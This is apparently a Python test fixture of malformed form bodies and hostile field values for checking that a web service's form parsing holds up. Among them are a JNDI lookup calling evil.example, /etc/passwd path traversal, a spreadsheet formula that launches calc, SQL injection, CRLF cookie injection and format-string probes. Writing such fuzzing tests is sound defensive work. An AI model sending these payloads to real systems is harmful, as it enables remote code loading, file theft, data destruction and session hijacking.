"""What strangers send where a form is asked for: whole bodies, and texts for its fields."""

from typing import Final, NamedTuple
from urllib.parse import urlencode

from tests.cloud.walls.corpus import MARK, STATEMENTS

PLAIN: Final = "application/x-www-form-urlencoded"
PARTS: Final = "multipart/form-data; boundary=X"


class Sent(NamedTuple):
    """A body as it goes over the line."""

    kind: str
    body: bytes


def part(name: str, value: str, extra: str = "") -> str:
    return f'--X\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n{value}\r\n'


def parts(*texts: str, end: str = "--X--\r\n") -> Sent:
    return Sent(PARTS, ("".join(texts) + end).encode())


NO_FORM: Final = (
    Sent(PLAIN, f"{MARK}".encode()),
    Sent(PLAIN, f"{MARK}={MARK}".encode()),
    Sent(PLAIN, b"&" * 5_000),
    Sent(PLAIN, b"=" * 5_000),
    Sent(PLAIN, b"a=1&" * 5_000),
    Sent(PLAIN, b"%zz=%zz&%=%"),
    Sent(PLAIN, b"%ff%fe=%ff%fe"),
    Sent(PLAIN, f"{MARK}=1".encode("utf-16")),
    Sent(f"{PLAIN}; charset=utf-7", f"+{MARK}-=1".encode()),
    Sent(f"{PLAIN}; charset={MARK}", f"{MARK}=1".encode()),
    Sent(PLAIN, f"{MARK}[]={MARK}&{MARK}[a][b]=1&__proto__=1".encode()),
    Sent("text/plain", f"{MARK}=1".encode()),
    Sent("application/xml", f'<!DOCTYPE a [<!ENTITY b "{MARK}">]><a>&b;</a>'.encode()),
    Sent("application/json", f'{{"{MARK}": "{MARK}"}}'.encode()),
    Sent("multipart/form-data", b"--X--\r\n"),
    Sent("multipart/form-data; boundary=", b"--\r\n"),
    Sent(f"multipart/form-data; boundary={'X' * 300}", b"--X--\r\n"),
    Sent(PARTS, b""),
    Sent(PARTS, b"--X"),
    Sent(PARTS, b"\xff" * 999),
    parts(end=""),
    parts(end="--Y--\r\n"),
    parts(part("a", MARK), end=""),
    parts("--X\r\n\r\n\r\n"),
    parts("--X\r\nContent-Disposition: attachment\r\n\r\n1\r\n"),
    parts(f"--X\r\n{'A' * 9_000}: 1\r\n\r\n1\r\n"),
    parts(part(MARK, MARK)),
    parts(part("", MARK)),
    parts(part(MARK * 900, "1")),
    parts(*[part("a", "1")] * 900),
    parts(*[part(f"a{number}", "1") for number in range(900)]),
    parts(part("a", MARK, '; filename="../../../etc/passwd"')),
    parts(*[part("a", "1", f'; filename="{number}"') for number in range(700)]),
    parts(part("a", "--Z\r\n\r\n--Z--", "\r\nContent-Type: multipart/mixed; boundary=Z")),
)
"""Whole bodies that are no form of ours."""

NUMBERS: Final = (
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "1e999",
    "1e5",
    "-1",
    "0x10",
    "1_000",
    "1" + "0" * 400,
    "true",
    "null",
    "[1]",
    "\N{FULLWIDTH DIGIT FIVE}",
    "\N{ARABIC-INDIC DIGIT FIVE}",
    "5;drop table account",
)
"""What a number's place gets, and refuses."""

TEXTS: Final = (
    "",
    " ",
    MARK * 2_000,
    "\0",
    f"{MARK}\0",
    f"{MARK}\x1b[31m",
    "\udcff",
    "\r\nSet-Cookie: sid=1",
    "\N{RIGHT-TO-LEFT OVERRIDE}" + MARK,
    "\N{ZERO WIDTH JOINER}" * 50,
    "e" + "\N{COMBINING ACUTE ACCENT}" * 500,
    "%s%s%n{0}{a.__class__}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "//evil.example",
    "=cmd|'/c calc'!A1",
    *STATEMENTS[::4],
)
"""What any field's place gets, and survives."""


def encoded(fields: dict[str, object]) -> Sent:
    """As a browser sends it; a half of a character goes as the octets it would be."""
    return Sent(PLAIN, urlencode(fields, errors="surrogatepass").encode())


def as_parts(fields: dict[str, object], extra: str = "") -> Sent:
    return parts(*(part(name, str(value), extra) for name, value in fields.items()))
